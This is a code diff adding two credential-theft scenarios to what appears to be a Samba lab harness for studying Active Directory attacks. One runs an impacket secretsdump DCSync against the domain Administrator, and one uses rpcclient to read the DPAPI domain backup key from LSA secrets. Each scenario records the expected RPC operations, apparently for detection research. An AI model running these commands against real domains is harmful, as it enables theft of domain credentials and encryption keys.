@@ -434,6 +434,24 @@ ADDC += [
                     "KDC_ERR_PREAUTH_FAILED or KDC_ERR_C_PRINCIPAL_UNKNOWN and audits each failure"),
 ]
 
+ADDC += [
+    Scenario(
+        "creds_dcsync_secretsdump", "dcsync", "impacket secretsdump.py",
+        [Step(impacket("secretsdump.py", "-just-dc-user", "SMBTLAB/Administrator", target=NTARGET), timeout=60)],
+        operations=["drsuapi.DsBind", "drsuapi.DsGetNCChanges"], args={"account": "Administrator"}, auth="ntlm",
+        transport="NCACN_IP_TCP", account="Administrator",
+        description="DCSync: DRSUAPI DsGetNCChanges for one account (secretsdump -just-dc-user) over TCP, "
+                    "NTLM PKT_PRIVACY (the password unseals it)"),
+    Scenario(
+        "creds_lsa_secrets_rpcclient", "lsa secret", "rpcclient",
+        [Step(["rpcclient", "-s", "{SMBCONF}", "-U", "SMBTLAB\\Administrator%{PW}", "-c",
+               "querysecret G$BCKUPKEY_PREFERRED; retrieveprivatedata G$BCKUPKEY_P", "{SRV}"])],
+        operations=["lsarpc.lsa_OpenSecret", "lsarpc.lsa_RetrievePrivateData"],  # Samba: no such secret, no opnum 43
+        args={"secret": "G$BCKUPKEY_PREFERRED"}, auth="ntlm", account="Administrator",
+        description="LSA secrets read remotely: the DPAPI domain backup key's secrets (lsadump::backupkeys, "
+                    "LsarOpenSecret + LsarQuerySecret, LsarRetrievePrivateData)"),
+]
+
 # ---------------------------------------------------------------- the paper's 22 commands and what the lab lacks
 
 PAPER_COMMANDS = [
